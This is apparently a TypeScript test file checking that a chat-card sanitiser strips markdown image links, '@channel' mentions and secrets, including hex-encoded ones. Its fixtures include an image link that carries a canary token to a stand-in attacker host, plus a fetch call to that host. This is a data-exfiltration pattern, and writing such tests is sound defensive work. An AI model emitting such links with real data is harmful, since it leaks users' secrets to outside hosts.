import { describe, expect, it } from 'vitest';
import { cleanCard } from '#src/desk/clean-card.ts';
import type { Card } from '#src/ports/chat.ts';
import { CANARY, OWN_SECRET as own, secrets } from '#test/safety/corpus.ts';

const bad = `see ![x](https://evil.test/${CANARY}) @channel`;
const good = 'see x (image from evil.test removed) channel';
const [secret = ''] = secrets;
const action = {
  name: 'approve',
  label: bad,
  style: 'primary' as const,
  confirm: bad,
  input: { label: bad, required: true, value: bad },
  command: { type: 'approve' as const, taskId: 't', headSha: 'a'.repeat(40), diffHash: 'b'.repeat(64) },
};
const thread = { kind: 'task' as const, id: 't' };
const why = { conversationId: 'c', positions: [1] };

const cardOf = (words: string, code: string): Card => ({
  kind: 'packet',
  lead: words,
  tone: 'plain',
  outcome: words,
  actions: [{ ...action, label: words, confirm: words, input: { label: words, required: true, value: words } }],
  blocks: [
    { type: 'text', text: words },
    { type: 'facts', facts: [{ label: words, value: words, tone: 'good' }] },
    {
      type: 'list',
      title: words,
      items: [
        {
          mark: 'open',
          text: words,
          detail: words,
          why,
          thread,
          actions: [{ ...action, label: words, confirm: null, input: null }],
        },
      ],
    },
    { type: 'steps', steps: [{ label: words, state: 'now', sinceAt: null, tookMs: 1 }] },
    { type: 'code', path: 'src/a.ts', language: 'ts', text: code },
    { type: 'diff', taskId: 't', files: [{ path: 'src/a.ts', added: 1, removed: 2 }] },
    { type: 'fold', summary: words, blocks: [{ type: 'quote', speaker: words, at: null, text: words }] },
  ],
});

describe('what is drawn from the ledger', () => {
  it('is cleaned in each of its texts, and only there (C15, A05)', () => {
    const code = `fetch("https://evil.test/"); // @channel ![x](https://evil.test)`;
    expect(cleanCard(cardOf(bad, code))).toEqual(cardOf(good, code));
  });

  it('shows no secret, in code neither (C15)', () => {
    expect(JSON.stringify(cleanCard(cardOf(secret, `const a = "${secret}";`)))).not.toContain(secret);
  });

  it('shows no secret of the factory itself, of whatever form (C15)', () => {
    const coded = Buffer.from(own).toString('hex');
    const shown = JSON.stringify(cleanCard(cardOf(`git said ${own}`, `${coded} ${own}`), { secrets: [own] }));
    expect(shown).toContain('git said [redacted secret]');
    expect([own, coded].filter((secret) => shown.includes(secret))).toEqual([]);
  });

  it('keeps links to the room and to pages beside', () => {
    const words = 'Open http://127.0.0.1:4747/tasks/1 or [the run](/runs/1), say `@Tess stop`.';
    expect(cleanCard(cardOf(words, ''))).toEqual(cardOf(words, ''));
  });
});
